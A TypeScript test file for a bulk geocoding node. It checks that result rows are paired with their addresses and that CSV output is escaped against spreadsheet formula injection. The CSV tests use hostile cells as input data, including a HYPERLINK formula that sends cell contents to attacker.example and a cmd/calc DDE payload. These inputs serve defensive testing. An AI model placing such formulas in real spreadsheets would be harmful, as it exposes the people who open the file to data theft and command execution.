import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import should from 'should';
import { Fields, expectOutput, helper, loadWithSandbox, sendAndCollect, useSandbox } from '../support/harness';
import { bulkControls, resetBulk } from '../../sandbox/endpoints/bulk';
import { geocode } from '../../sandbox/endpoints/geocode';
import { readCsv } from '../../sandbox/csv';
import { formulaCells, spreadsheetCells } from '../support/spreadsheet';
import type { BulkRow } from '../../nodes/lib/geo/result-rows';
import type { BulkSummary } from '../../nodes/lib/node-red/bulk-output';
import type { JobReport } from '../../nodes/lib/platform/bulk-run';

/**
 * Issue 20, points 3 and 4: bulk rows are never silently wrong, and a CSV output file is safe to open
 * in a spreadsheet.
 */

const FAST = { pollIntervalSec: 0.01, maxWait: 5 };

describe('svc-bulk-geocode rows', function () {
  const ctx = useSandbox({ jobPolls: 1 });
  let dir: string;
  beforeEach(() => {
    resetBulk(ctx.sandbox);
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'svc-bulk-rows-'));
  });
  afterEach(() => fs.rmSync(dir, { recursive: true, force: true }));

  const load = (extra: Fields = {}) =>
    loadWithSandbox(ctx.sandbox, { types: ['svc-bulk-geocode'], nodes: [{ id: 'n1', type: 'svc-bulk-geocode', ...FAST, ...extra }] });

  /** Where the sandbox geocoder puts an address. */
  const locationOf = (address: string) => {
    const [lon, lat] = (geocode(address)?.geometry as { coordinates: [number, number] }).coordinates;
    return { lat, lon };
  };
  const addressesOf = (count: number) => Array.from({ length: count }, (_v, i) => `${i + 1} Main Street`);
  const warnings = () => (helper.getNode('n1').warn as { getCalls(): Array<{ args: unknown[] }> }).getCalls().map((call) => String(call.args[0]));

  describe('pairing result rows with addresses (a hostile or broken platform)', function () {
    for (const resultFormat of ['csv', 'json'] as const) {
      it(`${resultFormat}: rows reordered and every echo rewritten: every row flagged ROW_MISMATCH, none with another address's location`, async function () {
        await load({ batchSize: 10 });
        Object.assign(bulkControls(ctx.sandbox), { resultFormat, resultOrder: 'reversed', rewrittenEchoes: 10 });
        const addresses = addressesOf(20);
        const msg = await expectOutput('n1', { payload: addresses });
        const rows = msg.payload as BulkRow[];
        should(rows.map((row) => row.input)).eql(addresses);
        for (const row of rows) {
          should(row.location).be.undefined();
          should(row.result).be.undefined();
          should(row.code).equal('ROW_MISMATCH');
          should(row.error).match(
            /^no row of the result file echoes this address; the row in its place echoes ".* Main Street \(rewritten\)" \(ROW_MISMATCH\)$/,
          );
        }
        // Row 0's place holds the reversed file's first row: the batch's last address, rewritten.
        should(rows[0].error).containEql('"10 Main Street (rewritten)"');
        should((msg.jobs as JobReport[]).map((job) => [job.unmatchedInputs, job.unmatchedResults])).eql([
          [10, 10],
          [10, 10],
        ]);
        const warned = warnings().filter((text) => text.includes('disagree with the addresses sent'));
        should(warned).have.length(2);
        should(warned[0]).match(
          /: 10 of 10 addresses have no row that echoes them .* and 10 rows echo an address that was not sent \(such as "10 Main Street \(rewritten\)", /,
        );
      });
    }

    it('some echoes rewritten, rows reordered: the others are paired by their echo, the rewritten ones flagged', async function () {
      await load();
      Object.assign(bulkControls(ctx.sandbox), { resultOrder: 'reversed', rewrittenEchoes: 3 });
      const addresses = addressesOf(10);
      const rows = (await expectOutput('n1', { payload: addresses })).payload as BulkRow[];
      // The reversed file's first three rows are those of the last three addresses.
      should(rows.filter((row) => row.code === 'ROW_MISMATCH').map((row) => row.index)).eql([7, 8, 9]);
      for (const row of rows.slice(0, 7)) {
        should(row.location).eql(locationOf(row.input as string));
        should((row.result as Fields).address).equal(row.input);
      }
      should(warnings().filter((text) => text.includes('3 of 10 addresses'))).have.length(1);
    });

    it('rows missing from the file: those addresses are flagged, the others paired, the job does not fail', async function () {
      await load();
      Object.assign(bulkControls(ctx.sandbox), { resultOrder: 'reversed', droppedRows: 2 });
      const addresses = addressesOf(6);
      const msg = await expectOutput('n1', { payload: addresses });
      const rows = msg.payload as BulkRow[];
      should(rows.filter((row) => row.code === 'ROW_MISMATCH').map((row) => [row.index, row.error])).eql([
        [0, "no row of the result file echoes this address: not paired with another address's row (ROW_MISMATCH)"],
        [1, "no row of the result file echoes this address: not paired with another address's row (ROW_MISMATCH)"],
      ]);
      for (const row of rows.slice(2)) should(row.location).eql(locationOf(row.input as string));
      should((msg.jobs as JobReport[])[0]).have.properties({ unmatchedInputs: 2, unmatchedResults: 0 });
    });

    it('counts the flagged rows and the stray result rows in the summary (a message per job, and a file)', async function () {
      for (const output of [{ output: 'parts' }, { output: 'file', outputFile: path.join(dir, 'out.csv') }]) {
        resetBulk(ctx.sandbox);
        await load({ batchSize: 4, ...output });
        Object.assign(bulkControls(ctx.sandbox), { rewrittenEchoes: 1 });
        const { outputs, error } = await sendAndCollect('n1', { payload: addressesOf(8) });
        should(error).be.undefined();
        const summary = outputs[outputs.length - 1].payload as BulkSummary;
        should(summary).have.properties({ rows: 8, located: 6, failed: 2, jobs: 2, failedJobs: 0, unmatchedInputs: 2, unmatchedResults: 2 });
        await helper.unload();
      }
    });

    it('agreeing echoes: no flag, no warning, and the summary counts none', async function () {
      await load({ output: 'parts', batchSize: 3 });
      bulkControls(ctx.sandbox).resultOrder = 'reversed';
      const { outputs } = await sendAndCollect('n1', { payload: addressesOf(5) });
      const rows = outputs.filter((m) => m.parts !== undefined).flatMap((m) => m.payload as BulkRow[]);
      should(rows.filter((row) => row.code !== undefined)).be.empty();
      should(outputs[outputs.length - 1].payload).have.properties({ unmatchedInputs: 0, unmatchedResults: 0 });
      should((outputs[outputs.length - 1].jobs as Fields[]).filter((job) => 'unmatchedInputs' in job)).be.empty();
      should(warnings()).be.empty();
    });

    it('an address sent twice with one result row: both rows get that result, nothing is flagged', async function () {
      await load();
      const file = [
        { address: '1 main street', lat: 1, lon: 2 },
        { address: '2 Main Street', lat: 3, lon: 4 },
      ];
      ctx.sandbox.setFault('bulk-download', { status: 200, body: JSON.stringify(file), times: 1 });
      const rows = (await expectOutput('n1', { payload: ['1 Main Street', '2 Main Street', ' 1  Main Street'] })).payload as BulkRow[];
      should(rows.map((row) => row.location)).eql([
        { lat: 1, lon: 2 },
        { lat: 3, lon: 4 },
        { lat: 1, lon: 2 },
      ]);
      should(rows.filter((row) => row.code !== undefined)).be.empty();
      should(warnings()).be.empty();
    });

    it('a row that echoes no address sent, in a file of as many rows: flagged, never given to the address in its place', async function () {
      await load();
      const file = [
        { address: '1 Main Street', lat: 1, lon: 2 },
        { address: 'Somewhere Else', lat: 3, lon: 4 },
      ];
      ctx.sandbox.setFault('bulk-download', { status: 200, body: JSON.stringify(file), times: 1 });
      const msg = await expectOutput('n1', { payload: ['1 Main Street', '2 Main Street'] });
      const rows = msg.payload as BulkRow[];
      should(rows[0].location).eql({ lat: 1, lon: 2 });
      should(rows[1]).have.properties({ location: undefined, result: undefined, code: 'ROW_MISMATCH' });
      should(rows[1].error).equal('no row of the result file echoes this address; the row in its place echoes "Somewhere Else" (ROW_MISMATCH)');
      should((msg.jobs as JobReport[])[0]).have.properties({ unmatchedInputs: 1, unmatchedResults: 1 });
    });

    it('echoes upper-cased (ß as SS) or in NFKC (full-width digits as ASCII) pair with the addresses sent (issue 27 point 6)', async function () {
      const addresses = ['Hauptstraße 5, Berlin', 'Straße des 17. Juni 31, Berlin', 'Ｍａｉｎ Ｓｔｒｅｅｔ １２', '３ Market Square', 'ﬁfth Avenue 7'];
      for (const echoForm of ['upper', 'nfkc'] as const) {
        resetBulk(ctx.sandbox);
        await load();
        bulkControls(ctx.sandbox).echoForm = echoForm;
        const msg = await expectOutput('n1', { payload: addresses });
        const rows = msg.payload as BulkRow[];
        should(rows.filter((row) => row.code !== undefined).map((row) => row.input)).eql([], echoForm);
        for (const row of rows) should(row.location).eql(locationOf(row.input as string), `${echoForm}: ${String(row.input)}`);
        should(warnings()).be.empty();
        await helper.unload();
      }
    });

    it('a file whose rows echo nothing is paired by position (it gives nothing to check with)', async function () {
      await load();
      Object.assign(bulkControls(ctx.sandbox), { echoAddress: false });
      const addresses = addressesOf(4);
      const rows = (await expectOutput('n1', { payload: addresses })).payload as BulkRow[];
      for (const row of rows) should(row.location).eql(locationOf(row.input as string));
      should(rows.filter((row) => row.code !== undefined)).be.empty();
    });
  });

  describe('a CSV output file (OWASP CSV injection)', function () {
    /** Cells a spreadsheet would evaluate, as the issue lists them, and cells it would not. */
    const HOSTILE = ['=HYPERLINK("http://attacker.example/?"&A1,"click")', '+1+2', "-3+cmd|' /C calc'!A0", '@SUM(1+1)', '\t=1+1', '\r=1+1'];
    const input = [
      ...HOSTILE.map((note, i) => ({ address: `${i + 1} Main Street`, note })),
      { address: '7 Main Street', note: '-33.8688' },
      { address: '8 Main Street', note: 'plain text, with a comma' },
    ];
    const rowsOfFile = (file: string) => {
      const [header, ...rows] = readCsv(fs.readFileSync(file, 'utf8'));
      return { header, rows: rows.map((row) => Object.fromEntries(header.map((name, i) => [name, row[i]]))) };
    };

    it('writes every cell a spreadsheet would run as a formula with a leading quote, and leaves numbers and text as they are', async function () {
      const file = path.join(dir, 'out.csv');
      await load({ output: 'file', outputFile: file });
      await expectOutput('n1', { payload: input });
      const { rows } = rowsOfFile(file);
      should(rows.map((row) => row.note).slice(0, HOSTILE.length)).eql(HOSTILE.map((cell) => `'${cell.replace(/^([\t\r])=/, "$1'=")}`));
      should(rows[6].note).equal('-33.8688');
      should(rows[7].note).equal('plain text, with a comma');
      should(rows.map((row) => row.address)).eql(input.map((row) => row.address));
      // Coordinates are numbers: negative or not, they stay numbers.
      for (const row of rows) should(Number.isFinite(Number(row.latitude))).be.true();
    });

    it('neither a "," nor a ";" reader (Excel in de-DE, fr-FR) sees a formula in the file, and numbers stay numbers (issue 27 point 6)', async function () {
      const cells = [
        '\n=1+1',
        '\r\n=1+1',
        'Carrer Major 1;=HYPERLINK("http://attacker.example/?"&A1,"click")',
        'Carrer Major 1;""=1+1',
        'line one\n@SUM(1)',
        'tab\t=1+1',
        '-12.5',
      ];
      const file = path.join(dir, 'both.csv');
      await load({ output: 'file', outputFile: file });
      await expectOutput('n1', { payload: cells.map((note, i) => ({ address: `${i + 1} Main Street`, note })) });
      const text = fs.readFileSync(file, 'utf8');
      for (const separator of [',', ';'] as const) should(formulaCells(spreadsheetCells(text, separator))).eql([], `separator ${separator}`);
      const { rows } = rowsOfFile(file);
      should(rows.map((row) => row.note.replace(/'/g, ''))).eql(cells);
      should(rows[cells.length - 1].note).equal('-12.5');
      for (const row of rows) should(Number.isFinite(Number(row.latitude))).be.true();
    });

    it('no member is dropped: a member only later rows have becomes a column, also after the first job (issue 27 point 6)', async function () {
      const file = path.join(dir, 'union.csv');
      await load({ output: 'file', outputFile: file, batchSize: 2 });
      const input = [
        { address: '1 Main Street', note: 'a' },
        { address: '2 Main Street', city: 'Springfield', note: 'b' },
        { address: '3 Main Street', note: 'c' },
        { address: '4 Main Street', floor: '3', note: 'd' },
        { address: '5 Main Street', note: 'e' },
      ];
      const msg = await expectOutput('n1', { payload: input });
      should(msg.payload).have.properties({ rows: 5, located: 5 });
      const { header, rows } = rowsOfFile(file);
      should(header).eql(['index', 'address', 'city', 'note', 'latitude', 'longitude', 'error', 'result', 'floor']);
      should(rows.map((row) => [row.address, row.note, row.city ?? '', row.floor ?? ''])).eql([
        ['1 Main Street', 'a', '', ''],
        ['2 Main Street', 'b', 'Springfield', ''],
        ['3 Main Street', 'c', '', ''],
        ['4 Main Street', 'd', '', '3'],
        ['5 Main Street', 'e', '', ''],
      ]);
      should(fs.readdirSync(dir)).eql(['union.csv']);
    });

    it("keeps a CRLF, CR or LF inside a cell as it was; only a formula character starting a line gets its ' (issue 51 point 5)", async function () {
      const notes = ['then\r\nleft', 'then\rleft', 'then\nleft', 'said "hi", then\r\n\r\nleft', 'then\r\n=1+1'];
      const file = path.join(dir, 'breaks.csv');
      await load({ output: 'file', outputFile: file });
      await expectOutput('n1', { payload: notes.map((note, i) => ({ address: `${i + 1} Main Street`, note })) });
      should(rowsOfFile(file).rows.map((row) => row.note)).eql([...notes.slice(0, -1), "then\r\n'=1+1"]);
      for (const separator of [',', ';'] as const) {
        should(formulaCells(spreadsheetCells(fs.readFileSync(file, 'utf8'), separator))).eql([], `separator ${separator}`);
      }
    });

    it('writes a column name a spreadsheet would run with a leading quote too', async function () {
      const file = path.join(dir, 'header.csv');
      await load({ output: 'file', outputFile: file });
      await expectOutput('n1', { payload: [{ address: '1 Main Street', '=cmd|calc': 'x' }] });
      should(rowsOfFile(file).header).eql(['index', 'address', "'=cmd|calc", 'latitude', 'longitude', 'error', 'result']);
    });

    it('writes cells as they are with Raw CSV', async function () {
      const file = path.join(dir, 'raw.csv');
      await load({ output: 'file', outputFile: file, rawCsv: true });
      await expectOutput('n1', { payload: input });
      should(rowsOfFile(file).rows.map((row) => row.note)).eql(input.map((row) => row.note));
    });

    it('leaves JSON lines as they are: no spreadsheet reads them', async function () {
      const file = path.join(dir, 'out.jsonl');
      await load({ output: 'file', outputFile: file });
      await expectOutput('n1', { payload: input });
      const lines = fs
        .readFileSync(file, 'utf8')
        .trim()
        .split('\n')
        .map((line) => JSON.parse(line) as Fields);
      should(lines.map((line) => line.note)).eql(input.map((row) => row.note));
    });
  });
});
